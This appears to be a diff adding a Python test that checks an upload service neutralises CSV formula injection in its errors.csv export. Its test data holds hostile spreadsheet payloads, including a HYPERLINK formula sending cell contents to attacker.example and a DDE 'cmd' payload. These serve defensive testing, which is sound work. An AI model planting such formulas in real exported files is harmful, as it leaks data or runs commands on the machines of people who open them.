@@ -229,3 +229,50 @@ async def test_a_malformed_multipart_body_is_a_422(service: Service) -> None:
 
     assert response.status_code == 422
     assert "malformed" in response.json()["detail"][0]["msg"]
+
+
+# What a spreadsheet may take for the start of a formula (OWASP's CSV injection list, with the full-width forms).
+FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+# What the uploader's CSV had in its email column, and what errors.csv says instead.
+HOSTILE_EMAILS = {
+    '=HYPERLINK("http://attacker.example/?"&A1)': '\'=HYPERLINK("http://attacker.example/?"&A1)',
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(1+1)": "'@SUM(1+1)",
+    "   =1+1": "'   =1+1",
+    "\uff1d1+1": "'\uff1d1+1",
+    # A tab or CR first, and a formula behind it for a spreadsheet that splits there.
+    "\t=1+1": "'\t'=1+1",
+    "\r=1+1": "'\r'=1+1",
+    "\t\tplain": "'\t\tplain",
+    "\rplain": "'\rplain",
+    # A formula behind a delimiter or a quote, where another spreadsheet may start a cell.
+    "a;=1+1": "a;'=1+1",
+    "a,@SUM(1)": "a,'@SUM(1)",
+    'a"=1+1': "a\"'=1+1",
+    "nul\x00here": "nul\ufffdhere",
+}
+
+
+async def test_errors_csv_neutralises_every_formula_and_holds_no_nul(tmp_path: Path, smtp_sink: SmtpSink) -> None:
+    upload_csv = io.StringIO()
+    writer = csv.writer(upload_csv)
+    writer.writerow(["email", "first_name", "login_url"])
+    for email in HOSTILE_EMAILS:
+        writer.writerow([email, "Eve", "https://example.com"])
+    async with running(make_settings(tmp_path, smtp_sink.port, JOBS_DIR=tmp_path / "jobs")) as service:
+        response = await upload(service, upload_csv.getvalue().encode())
+        assert response.status_code == 202, response.text
+        done = await wait_for_job(service, response.json()["id"], "done", "failed")
+        assert done["rejected"] == len(HOSTILE_EMAILS), done
+        errors_csv = await service.client.get(f"/v1/jobs/{done['id']}/errors.csv")
+
+    assert b"\x00" not in errors_csv.content
+    rows = list(csv.reader(io.StringIO(errors_csv.text)))[1:]
+    assert [email for _, email, _ in rows] == list(HOSTILE_EMAILS.values())
+    # A spreadsheet that splits at another delimiter (';' in many locales, tab) finds no formula either.
+    for delimiter in (",", ";", "\t"):
+        for row in csv.reader(io.StringIO(errors_csv.text, newline=""), delimiter=delimiter):
+            for cell in row:
+                assert not cell.lstrip().startswith(FORMULA_STARTS), (delimiter, cell)
+                assert not cell.startswith(("\t", "\r")), (delimiter, cell)
